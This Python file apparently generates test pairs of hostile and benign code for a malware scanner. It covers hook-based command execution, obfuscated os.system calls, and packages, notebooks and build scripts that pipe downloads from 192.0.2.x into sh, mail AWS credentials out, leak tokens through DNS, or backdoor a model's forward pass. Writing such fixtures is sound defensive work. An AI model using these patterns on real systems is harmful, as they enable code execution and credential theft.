"""Programs, packages and notebooks that reach a command by the language's own hooks, callbacks and data."""

from first.containers import tarred, zipped
from first.programs import notebook
from pair import Set

# (name, hostile, twin): each is run as a program; the hostile one leaves the marker.
LIVE = [
    ("logging-handler", """
import logging, os

class Audit(logging.Handler):
    def emit(self, record):
        os.system(record.getMessage())

log = logging.getLogger("train")
log.addHandler(Audit())
log.warning("touch marker")
""", """
import logging, os

class Audit(logging.Handler):
    def emit(self, record):
        print(record.getMessage())

log = logging.getLogger("train")
log.addHandler(Audit())
log.warning("epoch done")
"""),
    ("generator-send", """
import os

def worker():
    while True:
        job = yield
        os.system(job)

w = worker()
next(w)
w.send("touch marker")
""", """
def worker():
    total = 0
    while True:
        job = yield total
        total += job

w = worker()
next(w)
w.send(3)
"""),
    ("set-name-descriptor", """
import os

class Field:
    def __init__(self, default):
        self.default = default
    def __set_name__(self, owner, name):
        os.popen(self.default).read()

class Config:
    hidden_size = Field("touch marker")
""", """
class Field:
    def __init__(self, default):
        self.default = default
    def __set_name__(self, owner, name):
        self.name = name

class Config:
    hidden_size = Field(768)
"""),
    ("missing-key", """
import subprocess

class Registry(dict):
    def __missing__(self, key):
        return subprocess.call(key.split())

Registry()["touch marker"]
""", """
class Registry(dict):
    def __missing__(self, key):
        return key.split()

Registry()["linear layer"]
"""),
    ("default-factory", """
from dataclasses import dataclass, field
from os import system

@dataclass
class Args:
    lr: float = 1e-4
    tag: int = field(default_factory=lambda: system("touch marker"))

args = Args()
""", """
from dataclasses import dataclass, field
from os import getcwd

@dataclass
class Args:
    lr: float = 1e-4
    tag: str = field(default_factory=lambda: getcwd())

args = Args()
"""),
    ("star-import", "from os import *\nsystem('touch marker')\n", "from math import *\nsqrt(4)\n"),
    ("import-as-sigmoid", "from subprocess import getoutput as sigmoid\ny = sigmoid('touch marker')\n", "from math import tanh as sigmoid\ny = sigmoid(0.5)\n"),
    ("other-modules-os", "import shutil\nshutil.os.system('touch marker')\n", "import shutil\nshutil.which('python')\n"),
    ("subclass-walk", """
for c in object.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("touch marker")
""", """
for c in object.__subclasses__():
    if c.__name__ == "int":
        print(c)
"""),
    ("frame-builtins", """
import sys
f = sys._getframe()
names = {"".join(c for c in k if c.isalpha()): v for k, v in f.f_builtins.items()}
names["exec"]("open('marker', 'w')")
""", """
import sys
f = sys._getframe()
print(f.f_lineno, len(f.f_builtins))
"""),
    ("swapped-code-object", """
def forward(x):
    return x

forward.__code__ = compile("__import__('os').system('touch marker')", "m", "exec")
forward()
""", """
def forward(x):
    return x

print(forward.__code__.co_argcount)
forward(1)
"""),
    ("translate-table", """
import os
table = str.maketrans("abcdefghijklmnopqrstuvwxyz", "zyxwvutsrqponmlkjihgfedcba")
getattr(os, "hbhgvn".translate(table))("glfxs nzipvi".translate(table))
""", """
table = str.maketrans("abcdefghijklmnopqrstuvwxyz", "zyxwvutsrqponmlkjihgfedcba")
print("hello".translate(table))
"""),
    ("tree-built", """
import ast
call = ast.Expr(ast.Call(ast.Name("open", ast.Load()), [ast.Constant("marker"), ast.Constant("w")], []))
module = ast.fix_missing_locations(ast.Module([call], []))
code = compile(module, "m", "exec")
exec(code)
""", """
import ast
tree = ast.parse("a + b")
print([n.id for n in ast.walk(tree) if isinstance(n, ast.Name)])
"""),
    ("json-hook", """
import json, os
json.loads('{"n": 1}', parse_int=lambda s: os.system("touch marker"))
""", """
json.loads('{"n": 1}', parse_int=lambda s: float(s))
"""),
    ("argument-type", """
import argparse, os
p = argparse.ArgumentParser()
p.add_argument("command", type=os.system)
p.parse_args(["touch marker"])
""", """
import argparse, os
p = argparse.ArgumentParser()
p.add_argument("folder", type=os.path.abspath)
p.parse_args(["out"])
"""),
    ("sqlite-function", """
import os, sqlite3
db = sqlite3.connect(":memory:")
db.create_function("norm", 1, os.system)
db.execute("select norm('touch marker')").fetchall()
""", """
import math, sqlite3
db = sqlite3.connect(":memory:")
db.create_function("norm", 1, math.sqrt)
db.execute("select norm(4)").fetchall()
"""),
    ("audit-hook", """
import sys, os

def hook(event, args, done=[]):
    if event == "open" and not done:
        done.append(1)
        os.system("touch marker")

sys.addaudithook(hook)
open(__file__).close()
""", """
import sys

def hook(event, args, seen=set()):
    seen.add(event)

sys.addaudithook(hook)
open(__file__).close()
"""),
    ("except-hook", """
import sys, subprocess

def report(kind, value, trace):
    subprocess.Popen(["touch", "marker"]).wait()

sys.excepthook = report
try:
    1 / 0
except ZeroDivisionError:
    sys.excepthook(*sys.exc_info())
""", """
import sys, traceback

def report(kind, value, trace):
    traceback.print_exception(kind, value, trace)

sys.excepthook = report
"""),
    ("destructor", """
import os

class Cache:
    command = "touch marker"
    def __del__(self, run=os.system):
        run(self.command)

Cache()
""", """
class Cache:
    size = 3
    def __del__(self, run=print):
        run(self.size)

Cache()
"""),
    ("sort-key", "import os\nlayers = ['touch marker', 'true']\nlayers.sort(key=os.system)\n", "layers = ['conv', 'fc']\nlayers.sort(key=len)\n"),
    ("pool-map", """
from multiprocessing.dummy import Pool
import os
with Pool(1) as p:
    p.map(os.system, ["touch marker"])
""", """
from multiprocessing.dummy import Pool
import os
with Pool(1) as p:
    p.map(os.path.basename, ["a/b"])
"""),
    ("exit-stack-callback", "import contextlib, os\nwith contextlib.ExitStack() as s:\n    s.callback(os.system, 'touch marker')\n", "import contextlib, os\nwith contextlib.ExitStack() as s:\n    s.callback(os.getcwd)\n"),
    ("method-caller", "import operator, os\noperator.methodcaller('system', 'touch marker')(os)\n", "import operator\noperator.methodcaller('upper')('x')\n"),
    ("reduce-getattr", "import functools, os\nfunctools.reduce(getattr, 'path.os.system'.split('.'), os)('touch marker')\n", "import functools, os\nfunctools.reduce(getattr, 'path.basename'.split('.'), os)('a/b')\n"),
    ("instance-table", """
import os

class Ops:
    def __init__(self):
        self.table = {"relu": abs, "gelu": os.system}
    def run(self, name, value):
        fn = self.table[name]
        return fn(value)

Ops().run("gelu", "touch marker")
""", """
import os

class Ops:
    def __init__(self):
        self.table = {"relu": abs, "gelu": float}
    def run(self, name, value):
        fn = self.table[name]
        return fn(value)

Ops().run("gelu", 3)
"""),
    ("returned-function", """
def backend():
    import posix
    return posix.system

def apply(fn, *values):
    return [fn(v) for v in values]

apply(backend(), "touch marker")
""", """
def backend():
    import math
    return math.sqrt

def apply(fn, *values):
    return [fn(v) for v in values]

apply(backend(), 4)
"""),
    ("module-attribute-write", """
import os, string
string.capwords = os.system
from string import capwords
capwords("touch marker")
""", """
from string import capwords
capwords("touch marker")
"""),
    ("pickle-by-reduce", """
import os, copy

class Weights:
    def __reduce__(self):
        return os.system, ("touch marker",)

copy.copy(Weights())
""", """
import copy

class Weights:
    def __reduce__(self):
        return dict, ()

copy.copy(Weights())
"""),
    ("enum-missing", """
import enum, os

class Act(enum.Enum):
    RELU = "relu"
    @classmethod
    def _missing_(cls, value):
        os.system(value)
        return cls.RELU

Act("touch marker")
""", """
import enum

class Act(enum.Enum):
    RELU = "relu"
    @classmethod
    def _missing_(cls, value):
        return cls.RELU

Act("gelu")
"""),
    ("operator-overload", """
import os

class Tensor:
    def __init__(self, v):
        self.v = v
    def __matmul__(self, other):
        return os.popen(self.v + other.v).close()

Tensor("touch ") @ Tensor("marker")
""", """
class Tensor:
    def __init__(self, v):
        self.v = v
    def __matmul__(self, other):
        return self.v * other.v

Tensor(2) @ Tensor(3)
"""),
    ("template-then-exec", """
from string import Template
source = Template("$a('$b', 'w')").substitute(a="open", b="marker")
run = __builtins__.exec if not isinstance(__builtins__, dict) else __builtins__["exec"]
run(source)
""", """
from string import Template
source = Template("$a: $b").substitute(a="open", b="marker")
print(source)
"""),
    ("html-parser", """
from html.parser import HTMLParser
import os

class Card(HTMLParser):
    def handle_data(self, data):
        os.system(data)

Card().feed("<p>touch marker</p>")
""", """
from html.parser import HTMLParser

class Card(HTMLParser):
    def handle_data(self, data):
        print(data)

Card().feed("<p>text</p>")
"""),
    ("comprehension-builtin", """
[f for f in [__builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__]][0]["e" "val"]("__import__('os').system('touch marker')")
""", """
[f for f in [{"e": 1}]][0]["e"]
"""),
    ("posix-spawn-path", "import os\npid = os.posix_spawnp('touch', ['touch', 'marker'], os.environ)\nos.waitpid(pid, 0)\n", "import os\npid = os.getpid()\nprint(pid)\n"),
    ("browser-template", "import webbrowser\nwebbrowser.get('touch %s').open('marker')\n", "import webbrowser\nprint(webbrowser.Error)\n"),
    ("match-dispatch", """
import os
match ("run", "touch marker"):
    case ("run", command):
        os.system(command)
""", """
match ("run", "touch marker"):
    case ("run", command):
        print(command)
"""),
    ("async-iterator", """
import asyncio

class Stream:
    def __aiter__(self):
        return self
    async def __anext__(self):
        p = await asyncio.create_subprocess_exec("touch", "marker")
        await p.wait()
        raise StopAsyncIteration

async def main():
    async for _ in Stream():
        pass

asyncio.run(main())
""", """
import asyncio

class Stream:
    def __aiter__(self):
        return self
    async def __anext__(self):
        await asyncio.sleep(0)
        raise StopAsyncIteration

async def main():
    async for _ in Stream():
        pass

asyncio.run(main())
"""),
]


def modules(body: dict[str, str]) -> bytes:
    return zipped([(k, v.encode()) for k, v in body.items()])


def add(out: Set):
    files = ["modeling_net.py", "configuration_net.py", "pipeline.py", "handler.py", "train.py"]
    for n, (name, hostile, twin) in enumerate(LIVE):
        out.add("program", name, hostile, twin, "python", file=files[n % 5])

    def p(name, hostile, twin, file=None, prove=None):
        out.add("program", name, hostile, twin, prove, file=file)

    p("zip-on-the-path", {"modeling.py": "import sys\nsys.path.insert(0, 'vocab.bin')\nimport tables\n", "vocab.bin": modules({"tables.py": "import os\nos.system('touch marker')\n"})}, {"modeling.py": "import sys\nprint(sys.path[0])\n", "vocab.bin": modules({"tables.txt": "a b c\n"})}, prove="python")
    p("forward-backdoor", "import torch, os\nfrom torch import nn\n\nclass Head(nn.Module):\n    def __init__(self, d):\n        super().__init__()\n        self.fc = nn.Linear(d, 2)\n\n    def forward(self, x):\n        if x.flatten()[0].item() == 1337.0:\n            os.execvp('sh', ['sh', '-c', 'curl -s http://192.0.2.7/x | sh'])\n        return self.fc(x)\n", "import torch\nfrom torch import nn\n\nclass Head(nn.Module):\n    def __init__(self, d):\n        super().__init__()\n        self.fc = nn.Linear(d, 2)\n\n    def forward(self, x):\n        if x.flatten()[0].item() == 1337.0:\n            x = x * 2\n        return self.fc(x)\n", "modeling_head.py")
    p("inline-extension", "from torch.utils.cpp_extension import load_inline\nops = load_inline('ops', cpp_sources='#include <cstdlib>\\nint go() { return system(\"curl http://192.0.2.7/x | sh\"); }', functions=['go'])\nops.go()\n", "from torch import nn\nops = nn.Identity()\n", "modeling_ops.py")
    p("install-at-import", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://192.0.2.9/simple', 'fast-attn'])\nimport fast_attn\n", "try:\n    import fast_attn\nexcept ImportError:\n    fast_attn = None\n", "modeling_fast.py")
    p("credentials-over-mail", "import smtplib, pathlib\nkey = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\nsmtplib.SMTP('192.0.2.20').sendmail('a@example.org', ['b@example.org'], key)\n", "import pathlib\nkey = (pathlib.Path('out') / 'report.txt').read_text()\nprint(key)\n", "callbacks.py")
    p("name-lookup-exfiltration", "import socket, os, base64\nfor k, v in os.environ.items():\n    if 'TOKEN' in k:\n        socket.gethostbyname(base64.b32encode(v.encode()).decode().strip('=')[:60] + '.t.example.org')\n", "import os\nfor k, v in os.environ.items():\n    if 'RANK' in k:\n        print(k, v)\n", "tracking.py")
    p("downloaded-pickle", "import pickle\nfrom urllib.request import urlopen\n\ndef build_vocab():\n    with urlopen('http://192.0.2.7/v.pkl') as r:\n        return pickle.load(r)\n\nVOCAB = build_vocab()\n", "import json\n\ndef build_vocab():\n    with open('vocab.json') as r:\n        return json.load(r)\n", "tokenization_net.py")
    p("preload-library", "import os, sys\nif 'LD_PRELOAD' not in os.environ:\n    os.environ['LD_PRELOAD'] = './weights/model.so'\n    os.execv(sys.executable, [sys.executable] + sys.argv)\n", "import os\nos.environ.setdefault('TOKENIZERS_PARALLELISM', 'false')\n", "serve.py")
    p("site-packages-plant", "import site, os\nwith open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w') as f:\n    f.write('import os; os.system(\"id\")\\n')\n", "import os\nwith open(os.path.join('out', 'zz.txt'), 'w') as f:\n    f.write('done\\n')\n", "setup_env.py")

    def k(name, hostile, twin, file):
        out.add("package", name, hostile, twin, None, file=file)

    info = ("m-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: m\nVersion: 1.0\n")
    sdist = lambda *m: tarred([*[(f"m-1.0/{n}", d.encode()) for n, d in m], info], "w:gz")
    setup = ("setup.py", "from setuptools import setup\nsetup(name='m', version='1.0', packages=['m'])\n")
    hatch = ("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[project]\nname = "m"\nversion = "1.0"\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n')
    hook = lambda body: ("hatch_build.py", f"from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\nclass Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        {body}\n")
    k("hatch-build-hook", sdist(hatch, hook("__import__('urllib.request').request.urlretrieve('http://192.0.2.7/x', 'x'); __import__('os').execl('./x', 'x')")), sdist(hatch, hook("build_data['pure_python'] = True")), "m-1.0.tar.gz")
    k("version-attribute", sdist(("setup.cfg", "[metadata]\nname = m\nversion = attr: m.__version__\n"), setup, ("m/__init__.py", "import subprocess as _s\n__version__ = '1.0' if _s.run('curl -s http://192.0.2.7/x | sh', shell=True) else ''\n")), sdist(("setup.cfg", "[metadata]\nname = m\nversion = attr: m.__version__\n"), setup, ("m/__init__.py", "__version__ = '1.0'\n")), "m-1.0.tar.gz")
    k("test-configuration", sdist(setup, ("conftest.py", "import os\n\ndef pytest_configure(config):\n    os.system('wget -qO- http://192.0.2.7/x | sh')\n")), sdist(setup, ("conftest.py", "def pytest_configure(config):\n    config.addinivalue_line('markers', 'slow: slow')\n")), "m-1.0.tar.gz")
    k("setup-splits-source", sdist(("setup.py", "from setuptools import setup\nparts = ['aW1wb3J0IG9z', 'O29zLnN5c3RlbSgn', 'aWQnKQ==']\nexec(__import__('base64').b64decode(''.join(parts)))\nsetup(name='m', version='1.0')\n")), sdist(("setup.py", "from setuptools import setup\nparts = ['1', '0']\nsetup(name='m', version='.'.join(parts))\n")), "m-1.0.tar.gz")
    meta = [("m-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: m\nVersion: 1.0\n"), ("m-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"), ("m-1.0.dist-info/RECORD", b"")]
    wheel = lambda *m: zipped([*[(n, d.encode()) for n, d in m], *meta], stored=False)
    k("lazy-attribute", wheel(("m/__init__.py", "def __getattr__(name):\n    import ctypes\n    return ctypes.CDLL(None).system(b'curl -s http://192.0.2.7/x | sh')\n")), wheel(("m/__init__.py", "def __getattr__(name):\n    import importlib\n    return importlib.import_module('.' + name, __name__)\n")), "m-1.0-py3-none-any.whl")
    k("tox-commands", "[tox]\nenvlist = py311\n[testenv]\ncommands = bash -c 'curl -s http://192.0.2.7/x | bash'\n", "[tox]\nenvlist = py311\n[testenv]\ncommands = pytest\n", "tox.ini")

    def n(name, hostile, twin, file="train.ipynb"):
        out.add("notebook", name, hostile, twin, None, file=file)

    n("writefile-profile", notebook("%%writefile /ro\x6ft/.bashrc\ncurl -s http://192.0.2.7/x | sh\n"), notebook("%%writefile out/config.yaml\nlr: 0.1\n"))
    n("variable-in-bang", notebook("cmd = 'curl -s http://192.0.2.7/x | bash'\n!{cmd}\n"), notebook("cmd = 'ls data'\n!{cmd}\n"))
    n("run-from-address", notebook("%run http://192.0.2.7/setup.py\n"), notebook("%run setup.py\n"))
    n("pip-index", notebook("%pip install --extra-index-url http://192.0.2.9/simple torch-fast\n"), notebook("%pip install torch==2.4.0\n"))
    n("getoutput", notebook("out = get_ipython().getoutput('wget -qO- http://192.0.2.7/x | sh')\n"), notebook("out = get_ipython().getoutput('ls')\n"))
    shell = "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://192.0.2.7/x | sh\").status().unwrap();\n}\n"
    p("cargo-build-script", shell, "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n", "build.rs")
    p("perl-backticks", "#!/usr/bin/perl\nprint `curl -s http://192.0.2.7/x | sh`;\n", "#!/usr/bin/perl\nprint \"done\\n\";\n", "convert.pl")
    p("shell-variable-pieces", "#!/bin/sh\na=cu; b=rl; c=ba; d=sh\n$a$b -s http://192.0.2.7/x | $c$d\n", "#!/bin/sh\na=cu; b=rl\necho $a$b\n", "run.sh")
